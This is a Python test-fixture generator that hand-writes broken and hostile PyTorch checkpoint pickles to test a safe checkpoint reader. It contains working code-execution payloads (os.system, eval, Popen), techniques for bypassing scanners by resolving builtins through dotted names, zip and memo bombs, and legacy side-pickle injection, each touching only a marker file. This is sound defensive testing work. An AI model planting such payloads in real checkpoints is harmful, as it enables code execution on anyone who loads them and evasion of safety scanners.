"""Broken and hostile checkpoint files, written by hand at the pickle-opcode level.

Every hostile payload, if a real unpickler ran it, creates ``marker`` (a file path given by the
test), so a test can prove the payload is live *and* that our reader never ran it.
"""

from __future__ import annotations

import bz2
import io
import json
import lzma
import os
import pickle
import pickletools
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

PROTO2 = b"\x80\x02"
STOP = b"."


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def text(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def integer(n: int) -> bytes:
    return b"J" + struct.pack("<i", n) if -(2**31) <= n < 2**31 else b"\x8a\x08" + struct.pack("<q", n)


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args) via REDUCE."""
    return func + b"(" + b"".join(args) + b"t" + b"R"


def with_payload(data_pkl: bytes, payload: bytes, key: str = "extra") -> bytes:
    """Add ``key: payload`` to the top-level dict of a real data.pkl (just before STOP)."""
    assert data_pkl.endswith(STOP)
    return data_pkl[:-1] + text(key) + payload + b"s" + STOP


def zip_checkpoint(path: Path, data_pkl: bytes, storages: dict[str, bytes] | None = None,
                   folder: str = "archive") -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(f"{folder}/data.pkl", data_pkl)
        zf.writestr(f"{folder}/version", "3\n")
        for key, blob in (storages or {}).items():
            zf.writestr(f"{folder}/data/{key}", blob)
    return path


def real_data_pkl(checkpoint: Path) -> tuple[bytes, dict[str, bytes], str]:
    with zipfile.ZipFile(checkpoint) as zf:
        name = next(n for n in zf.namelist() if n.endswith("/data.pkl"))
        folder = name.split("/")[0]
        storages = {n.split("/data/")[1]: zf.read(n) for n in zf.namelist() if "/data/" in n}
        return zf.read(name), storages, folder


def payloads(marker: Path) -> dict[str, bytes]:
    """Globals that run code under a real unpickler; each would create ``marker``."""
    m = str(marker)
    shell = f"touch {m}"
    py = f"open({m!r}, 'w').close()"
    return {
        "os_system": call(glob("os", "system"), text(shell)),
        "posix_system": call(glob("posix", "system"), text(shell)),
        "subprocess_popen": call(glob("subprocess", "Popen"), b"(" + text("touch") + text(m) + b"l"),
        "builtins_eval": call(glob("builtins", "eval"), text(py)),
        "builtins_exec": call(glob("builtins", "exec"), text(py)),
        "py2_builtin_eval": call(glob("__builtin__", "eval"), text(py)),
        "getattr_chain": call(call(glob("builtins", "getattr"),
                                   call(glob("builtins", "__import__"), text("os")), text("system")),
                              text(shell)),
        "pkgutil_resolve": call(call(glob("pkgutil", "resolve_name"), text("os:system")), text(shell)),
        "importlib_import": call(call(glob("builtins", "getattr"),
                                      call(glob("importlib", "import_module"), text("os")),
                                      text("system")), text(shell)),
        "runpy": call(glob("runpy", "_run_code"), text(py), b"}"),
        "numpy_runstring": call(glob("numpy.testing._private.utils", "runstring"), text(py), b"}"),
        "torch_hub_load": call(glob("torch.hub", "load"), text("evil/repo"), text("model")),
    }


def broken_files(outdir: Path, real: Path) -> dict[str, Path]:
    """Files that are not readable checkpoints, each of a different kind of damage."""
    outdir.mkdir(parents=True, exist_ok=True)
    rng = random.Random(0)
    blob = real.read_bytes()
    made: dict[str, Callable[[Path], object]] = {
        "empty.pt": lambda p: p.write_bytes(b""),
        "random.pt": lambda p: p.write_bytes(rng.randbytes(100_000)),
        "text.pt": lambda p: p.write_text("model: yolov5s\nthis is not a checkpoint\n"),
        "truncated.pt": lambda p: p.write_bytes(blob[: len(blob) // 2]),
        "truncated_head.pt": lambda p: p.write_bytes(blob[:200]),
        "zip_without_pkl.pt": lambda p: _zip(p, {"archive/readme.txt": b"hello"}),
        "plain_pickle.pt": lambda p: p.write_bytes(PROTO2 + text("just a string") + STOP),
        "deep_nesting.pt": lambda p: zip_checkpoint(p, PROTO2 + b"(" * 200_000 + b"l" * 200_000 + STOP),
        "laughs.pt": lambda p: zip_checkpoint(p, _billion_laughs()),
        "laughs_in_model.pt": lambda p: _laughs_in_real(p, real),
        "huge_storage.pt": lambda p: zip_checkpoint(p, _tensor_claiming(10**15), {"0": b"\0" * 16}),
        "negative_storage.pt": lambda p: zip_checkpoint(p, _tensor_claiming(-5), {"0": b"\0" * 16}),
        "missing_storage.pt": lambda p: zip_checkpoint(p, _tensor_claiming(4), {}),
        "huge_bytes_claim.pt": lambda p: zip_checkpoint(p, PROTO2 + b"B" + struct.pack("<I", 2**31) + b"ab"),
        "not_a_model.pt": lambda p: zip_checkpoint(p, PROTO2 + b"}" + text("a") + integer(1) + b"s" + STOP),
        # a 8.5 MB zip whose data.pkl inflates to 8 GiB (a DUP bomb), its header claiming 32 MiB
        "zip_bomb_8g.pt": lambda p: _deflate_bomb(p, 8 << 10, declared=32 << 20),
        # the same stream with an honest (zip64-free, 4 GiB - 1) size claim
        "zip_bomb_honest.pt": lambda p: _deflate_bomb(p, 4 << 10, declared=0xFFFFFFFF),
        # inflates exactly to the reader's 64 MiB budget: the opcode budget has to stop it
        "zip_bomb_at_budget.pt": lambda p: _deflate_bomb(p, 64, declared=(64 << 20) - 1),
        "zip_encrypted.pt": lambda p: _zip_variant(p, real, flags=0x1),
        "zip_unknown_method.pt": lambda p: _zip_variant(p, real, method=99),
        "zip_corrupt_deflate.pt": lambda p: _zip_corrupt(p, real, zipfile.ZIP_DEFLATED),
        "zip_corrupt_lzma.pt": lambda p: _zip_corrupt(p, real, zipfile.ZIP_LZMA),
        "zip_corrupt_bzip2.pt": lambda p: _zip_corrupt(p, real, zipfile.ZIP_BZIP2),
        "int_5000_digits.pt": lambda p: zip_checkpoint(p, PROTO2 + b"L" + b"9" * 5000 + b"L\n" + STOP),
        "int_huge_binary.pt": lambda p: zip_checkpoint(p, PROTO2 + b"\x8b" + struct.pack("<i", 100_000)
                                                       + b"\x7f" * 100_000 + STOP),
        "memo_index_bomb.pt": lambda p: zip_checkpoint(p, PROTO2 + b"N" + b"r" + struct.pack("<I", 0xFFFFFFF0) + STOP),
        "dup_bomb.pt": lambda p: zip_checkpoint(p, PROTO2 + b"N" + b"2" * 3_000_000 + STOP),
        "huge_list.pt": lambda p: zip_checkpoint(p, PROTO2 + b"](" + b"N" * 3_000_000 + b"e" + STOP),
        "bad_stride.pt": lambda p: zip_checkpoint(p, _tensor_view(0, (4,), (100,)), {"0": b"\0" * 16}),
        "bad_offset.pt": lambda p: zip_checkpoint(p, _tensor_view(2**62, (1,), (1,)), {"0": b"\0" * 16}),
        "negative_offset.pt": lambda p: zip_checkpoint(p, _tensor_view(-3, (4,), (1,)), {"0": b"\0" * 16}),
        "negative_stride.pt": lambda p: zip_checkpoint(p, _tensor_view(3, (4,), (-1,)), {"0": b"\0" * 16}),
        "safetensors_deep_name.safetensors": lambda p: _safetensors(p, {"a" + ".a" * 30_000: ("F32", [1])}),
        "safetensors_negative_shape.safetensors": lambda p: _safetensors(p, {"w": ("F32", [-1, -1])}),
    }
    out = {}
    for name, fn in made.items():
        path = outdir / name
        fn(path)
        out[name] = path
    d = outdir / "a_directory.pt"
    d.mkdir(exist_ok=True)
    out["a_directory.pt"] = d
    fifo = outdir / "a_fifo.pt"
    if not fifo.exists():
        os.mkfifo(fifo)
    out["a_fifo.pt"] = fifo
    zero = outdir / "dev_zero.pt"
    if not zero.is_symlink():
        zero.symlink_to("/dev/zero")
    out["dev_zero.pt"] = zero
    return out


# Valid files that once cost minutes or gigabytes: each must read quickly and exit 0.
def slow_but_valid_files(outdir: Path) -> dict[str, Path]:
    outdir.mkdir(parents=True, exist_ok=True)
    made: dict[str, Callable[[Path], object]] = {
        # 20,000 layers in a 1.4 MB file (was 62 s in inspect: per-layer scans over all parameters)
        "layers_20k.safetensors": lambda p: _safetensors(
            p, {f"model.{i}.conv.weight": ("F16", [1]) for i in range(20_000)}),
        # a layer numbered 200,000,000 (was > 6 GB: something built range(n))
        "layer_200M.safetensors": lambda p: _safetensors(
            p, {"model.0.conv.weight": ("F16", [1]), "model.200000000.conv.weight": ("F16", [1])}),
    }
    out = {}
    for name, fn in made.items():
        path = outdir / name
        fn(path)
        out[name] = path
    return out


def _safetensors(path: Path, tensors: dict[str, tuple[str, list[int]]]) -> None:
    sizes = {"F16": 2, "F32": 4}
    header: dict[str, object] = {}
    off = 0
    for name, (dtype, shape) in tensors.items():
        n = 1
        for d in shape:
            n *= d
        nbytes = n * sizes[dtype]
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [off, off + nbytes]}
        off += nbytes
    h = json.dumps(header).encode()
    path.write_bytes(struct.pack("<Q", len(h)) + h + b"\0" * off)


def _raw_zip(path: Path, name: str, data: bytes, *, method: int, flags: int, crc: int, usize: int) -> None:
    """One-entry zip written field by field, so headers can say what zipfile would never write."""
    n = name.encode()
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, flags, method, 0, 0, crc, len(data), usize, len(n), 0)
    central = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, flags, method, 0, 0, crc, len(data), usize,
                          len(n), 0, 0, 0, 0, 0, 0)
    body = local + n + data
    eocd = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(central) + len(n), len(body), 0)
    path.write_bytes(body + central + n + eocd)


def _deflate_bomb(path: Path, mib: int, declared: int) -> None:
    """data.pkl = PROTO 2, None, then DUP opcodes: ``mib`` MiB once inflated, ~1 KB per MiB on disk.

    Deflate with a full flush after each identical 1 MiB chunk emits identical bytes, so the
    stream is one unit repeated, not 8 GiB compressed here."""
    unit = 1 << 20
    first = PROTO2 + b"N" + b"2" * (unit - 3)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(first) + c.flush(zlib.Z_FULL_FLUSH)
    chunk = b"2" * unit
    body = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    tail = c.compress(chunk) + c.flush(zlib.Z_FINISH)
    stream = head + body * max(mib - 2, 0) + tail
    crc = zlib.crc32(first)
    done = unit
    while done < min(declared, mib * unit):  # the CRC of what zipfile will hand out (declared bytes)
        part = min(unit, declared - done)
        crc = zlib.crc32(chunk[:part], crc)
        done += part
    _raw_zip(path, "archive/data.pkl", stream, method=zipfile.ZIP_DEFLATED, flags=0, crc=crc,
             usize=min(declared, 0xFFFFFFFF))


def _zip_variant(path: Path, real: Path, *, flags: int = 0, method: int = zipfile.ZIP_STORED) -> None:
    data, _, folder = real_data_pkl(real)
    _raw_zip(path, f"{folder}/data.pkl", data, method=method, flags=flags, crc=zlib.crc32(data), usize=len(data))


def _zip_corrupt(path: Path, real: Path, method: int) -> None:
    data, _, folder = real_data_pkl(real)
    if method == zipfile.ZIP_DEFLATED:
        c = zlib.compressobj(6, zlib.DEFLATED, -15)
        packed = c.compress(data) + c.flush()
    elif method == zipfile.ZIP_BZIP2:
        packed = bz2.compress(data)
    else:  # zipfile's LZMA entries: 2-byte version, 2-byte props size, props, raw LZMA1 stream
        props = lzma._encode_filter_properties({"id": lzma.FILTER_LZMA1})  # type: ignore[attr-defined]
        c2 = lzma.LZMACompressor(lzma.FORMAT_RAW, filters=[lzma._decode_filter_properties(  # type: ignore[attr-defined]
            lzma.FILTER_LZMA1, props)])
        packed = struct.pack("<BBH", 9, 4, len(props)) + props + c2.compress(data) + c2.flush()
    mid = len(packed) // 2
    garbled = packed[:mid] + bytes(b ^ 0x5A for b in packed[mid : mid + 64]) + packed[mid + 64 :]
    _raw_zip(path, f"{folder}/data.pkl", garbled, method=method, flags=0, crc=zlib.crc32(data), usize=len(data))


def _zip(path: Path, entries: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w") as zf:
        for k, v in entries.items():
            zf.writestr(k, v)


def _laughs_list(base: int) -> bytes:
    """L0 = ["lol"]; L(i+1) = [Li] * 10, leaving only L60 on the stack: tiny on disk,
    10**60 leaves if anything expands it as a tree. Memo slots start at ``base``."""

    def put(i: int) -> bytes:
        return b"r" + struct.pack("<I", base + i)

    def get(i: int) -> bytes:
        return b"j" + struct.pack("<I", base + i)

    out = io.BytesIO()
    out.write(b"]" + text("lol") + b"a" + put(0) + b"0")
    for i in range(60):
        out.write(b"(" + get(i) * 10 + b"l" + put(i + 1) + (b"0" if i < 59 else b""))
    return out.getvalue()


def _billion_laughs() -> bytes:
    return PROTO2 + b"}(" + text("model") + b"N" + text("opt") + _laughs_list(0) + b"u" + STOP


def _laughs_in_real(path: Path, real: Path) -> None:
    data, storages, folder = real_data_pkl(real)
    # memo slots far above the real pickle's own
    zip_checkpoint(path, with_payload(data, _laughs_list(900_000), key="opt"), storages, folder)


def _tensor_view(offset: int, shape: tuple[int, ...], stride: tuple[int, ...]) -> bytes:
    """A 4-element float storage (16 bytes present) viewed with the given offset/shape/stride."""
    storage = (b"(" + text("storage") + glob("torch", "FloatStorage") + text("0") + text("cpu")
               + integer(4) + b"t" + b"Q")
    tensor = call(glob("torch._utils", "_rebuild_tensor_v2"), storage, integer(offset),
                  b"(" + b"".join(integer(d) for d in shape) + b"t",
                  b"(" + b"".join(integer(d) for d in stride) + b"t", b"\x89",
                  call(glob("collections", "OrderedDict")))
    return PROTO2 + b"}" + text("w") + tensor + b"s" + STOP


def _tensor_claiming(numel: int) -> bytes:
    storage = (b"(" + text("storage") + glob("torch", "FloatStorage") + text("0") + text("cpu")
               + integer(numel) + b"t" + b"Q")
    size = b"(" + integer(4) + b"t"
    tensor = call(glob("torch._utils", "_rebuild_tensor_v2"), storage, integer(0), size,
                  b"(" + integer(1) + b"t", b"\x89", call(glob("collections", "OrderedDict")))
    return PROTO2 + b"}" + text("w") + tensor + b"s" + STOP


def hostile_files(outdir: Path, real: Path, marker: Path) -> dict[str, Path]:
    """One standalone and one embedded-in-a-real-checkpoint file per payload."""
    outdir.mkdir(parents=True, exist_ok=True)
    data, storages, folder = real_data_pkl(real)
    out = {}
    for name, payload in payloads(marker).items():
        alone = zip_checkpoint(outdir / f"{name}.pt", PROTO2 + payload + STOP)
        inside = zip_checkpoint(outdir / f"{name}_in_model.pt", with_payload(data, payload), storages, folder)
        out[alone.name] = alone
        out[inside.name] = inside
    return out


# ---------------------------------------------------------------------------------------------
# Bypasses of module-prefix scanners: each runs code under plain torch.load(weights_only=False).

PROTO4 = b"\x80\x04"


def stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL under protocol 4, where the unpickler resolves a dotted name attribute by attribute."""
    return PROTO4 + text(module) + text(name) + b"\x93"


def frag(obj: object) -> bytes:
    """The opcodes that push ``obj`` (pickle.dumps without its PROTO header and STOP)."""
    return pickle.dumps(obj, protocol=2)[2:-1]


_CODE_FIELDS = ("co_argcount", "co_posonlyargcount", "co_kwonlyargcount", "co_nlocals", "co_stacksize",
                "co_flags", "co_code", "co_consts", "co_names", "co_varnames", "co_filename", "co_name",
                "co_qualname", "co_firstlineno", "co_linetable", "co_exceptiontable", "co_freevars",
                "co_cellvars")  # types.CodeType's argument order on Python 3.11/3.12


def bypass_payloads(marker_dir: Path, inner: Path) -> dict[str, bytes]:
    """name -> payload; payload ``name`` creates ``marker_dir / f"{name}.marker"`` when run."""

    def py(name: str) -> str:
        return f"open({str(marker_dir / (name + '.marker'))!r}, 'w').close()"

    code = compile(py("types_code_function"), "<payload>", "exec")
    code_args = [frag(getattr(code, f)) for f in _CODE_FIELDS]
    cfg = {"nc": 1, "depth_multiple": 1.0, "width_multiple": 1.0, "anchors": [[10, 13, 16, 30, 33, 23]],
           "activation": py("detectionmodel_init_eval") + " or __import__('torch').nn.SiLU()",
           "backbone": [[-1, 1, "Conv", [16, 3, 2]]], "head": [[[0], 1, "Detect", ["nc", "anchors"]]]}
    return {
        # argparse is "benign"; ArgumentParser.__init__.__builtins__ is the builtins dict
        "argparse_dotted_eval": call(call(stack_global("argparse", "ArgumentParser.__init__.__builtins__.get"),
                                          text("eval")), text(py("argparse_dotted_eval"))),
        "yolo_forward_dotted_eval": call(call(stack_global("models.yolo", "DetectionModel.forward.__builtins__.get"),
                                              text("eval")), text(py("yolo_forward_dotted_eval"))),
        "types_code_function": call(call(glob("types", "FunctionType"),
                                         call(glob("types", "CodeType"), *code_args), b"}")),
        # an allowlisted model class CALLED (its __init__ runs parse_model, which eval()s the YAML)
        "detectionmodel_init_eval": call(glob("models.yolo", "DetectionModel"), frag(cfg)),
        # an upper-case class of an allowlisted package whose __init__ loads another file
        "ultralytics_yolo_loads_a_file": call(glob("ultralytics", "YOLO"), text(str(inner))),
    }


def bypass_files(outdir: Path, real: Path, marker_dir: Path) -> dict[str, Path]:
    """Each bypass payload inside the real checkpoint's data.pkl (the model stays readable)."""
    outdir.mkdir(parents=True, exist_ok=True)
    inner = outdir / "inner_loaded_by_ultralytics.pt"
    zip_checkpoint(inner, PROTO2 + payloads(marker_dir / "ultralytics_yolo_loads_a_file.marker")["os_system"]
                   + STOP)
    data, storages, folder = real_data_pkl(real)
    out = {}
    for name, payload in bypass_payloads(marker_dir, inner).items():
        path = zip_checkpoint(outdir / f"{name}.pt", with_payload(data, payload), storages, folder)
        out[name] = path
    return out


LEGACY_PICKLES = ("magic", "protocol", "sys_info", "object", "storage_keys")


def legacy_side_files(outdir: Path, legacy: Path, marker_dir: Path) -> dict[str, Path]:
    """The legacy format's side pickles each carrying os.system (run, then POPped, so torch.load
    still loads the model): name -> file; the marker is ``marker_dir / f"{name}.marker"``."""
    outdir.mkdir(parents=True, exist_ok=True)
    blob = legacy.read_bytes()
    f = io.BytesIO(blob)
    bounds = [0]
    for _ in LEGACY_PICKLES:
        for _op in pickletools.genops(f):
            pass
        bounds.append(f.tell())
    parts = [blob[bounds[i] : bounds[i + 1]] for i in range(len(LEGACY_PICKLES))]
    rest = blob[bounds[-1] :]
    out = {}
    for i, which in enumerate(LEGACY_PICKLES):
        if which == "object":
            continue  # the object pickle is the zip corpus' job (payloads() *_in_model)
        name = f"legacy_{which}_pickle"
        payload = payloads(marker_dir / f"{name}.marker")["os_system"]
        changed = list(parts)
        changed[i] = PROTO2 + payload + b"0" + parts[i]
        path = outdir / f"{name}.pt"
        path.write_bytes(b"".join(changed) + rest)
        out[name] = path
    return out


if __name__ == "__main__":
    import sys

    base = Path(sys.argv[1])
    real_ckpt = Path(sys.argv[2])
    marker_path = base / "PWNED"
    for p in [*broken_files(base / "broken", real_ckpt).values(),
              *hostile_files(base / "hostile", real_ckpt, marker_path).values()]:
        print(p, os.path.getsize(p) if p.is_file() else "dir")
